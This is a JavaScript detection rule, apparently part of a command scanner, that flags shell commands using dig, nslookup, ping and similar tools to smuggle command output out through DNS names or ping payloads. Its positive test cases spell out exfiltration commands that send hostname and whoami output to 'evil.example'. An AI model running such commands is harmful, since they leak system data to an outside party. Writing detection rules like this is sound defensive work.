import { defineRule, perInvocation } from './rule.js';
import { DYN } from '../ir.js';

const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'ping', 'drill', 'resolve-dnsname', 'ping6', 'traceroute']);

export const rule = defineRule({
  id: 'dns_exfil',
  category: 'exfiltration',
  severity: 'critical',
  technique: 'T1048',
  title: 'Smuggles data out inside DNS lookups or ping payloads',
  check: perInvocation((inv) => {
    if (!DNS_TOOLS.has(inv.program)) return undefined;
    const dynHost = inv.args.some((a) => a.includes(DYN) && /\./.test(a));
    const fromSub = inv.substitutions.some((s) => s.program !== 'date');
    if (inv.program === 'ping' && inv.args.includes('-p') && fromSub) return 'hides command output in ping packets';
    if (dynHost && fromSub) return `puts the output of ${inv.substitutions.map((s) => s.program).join(', ')} into a DNS name, sending it to whoever runs that domain's name server`;
    return undefined;
  }),
  cases: {
    positive: [['bash', 'dig $(cat /etc/hostname | base64).x.evil.example'], ['bash', 'nslookup `whoami`.evil.example']],
    negative: [['bash', 'dig example.com +short'], ['bash', 'nslookup $HOST']],
  },
});
